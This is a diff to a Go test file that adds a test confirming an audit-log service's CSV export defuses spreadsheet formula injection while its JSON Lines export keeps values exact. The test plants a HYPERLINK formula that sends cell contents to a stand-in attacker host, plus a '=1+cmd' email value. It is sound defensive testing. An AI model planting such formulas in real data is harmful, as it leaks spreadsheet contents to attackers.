@@ -11,6 +11,7 @@ import (
 
 	"github.com/trailhq/trail"
 	"github.com/trailhq/trail/httpapi"
+	"github.com/trailhq/trail/internal/teststore"
 )
 
 // awkward are field values that CSV and JSON must escape or quote.
@@ -211,5 +212,38 @@ func TestCSVNeutralizesFormulas(t *testing.T) {
 		if got := string(row); got != want {
 			t.Errorf("name %q:\n got: %q\nwant: %q", tt.name, got, want)
 		}
+	}
+}
+
+// TestExportNeutralizesPlantedFormulas stores the cells of issue 12's
+// probe (a failed sign-in's email and user agent) and checks that the CSV
+// export defuses them while JSON Lines keep them exactly.
+func TestExportNeutralizesPlantedFormulas(t *testing.T) {
+	e := newEnv(t, teststore.SQLite(t))
+	acme := e.newKey(t, "acme", false, trail.ScopeAdmin)
+	email, agent := "=1+cmd@evil.test", `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	e.ingest(t, acme, event("login.failure", "actor", `{"type":"user","id":"-1","name":"`+email+`"}`,
+		"context", `{"ip":"203.0.113.9","user_agent":"`+strings.ReplaceAll(agent, `"`, `\"`)+`"}`))
+	csvBody := string(e.do(t, "GET", "/v1/events/export?format=csv&action=login.failure", acme, "").want(t, 200).body)
+	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv rows = %v, %v", rows, err)
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for col, want := range map[string]string{"actor_id": "'-1", "actor_name": "'" + email, "user_agent": "'" + agent} {
+		if got[col] != want {
+			t.Errorf("csv %s = %q, want %q", col, got[col], want)
+		}
+	}
+	jsonl := e.do(t, "GET", "/v1/events/export?format=jsonl&action=login.failure", acme, "").want(t, 200).body
+	var ev trail.Event
+	if err := json.Unmarshal(bytes.TrimSpace(jsonl), &ev); err != nil {
+		t.Fatal(err)
+	}
+	if ev.Actor.Name != email || ev.Context.UserAgent != agent || ev.Actor.ID != "-1" {
+		t.Errorf("jsonl changed the values: %+v", ev)
 	}
 }
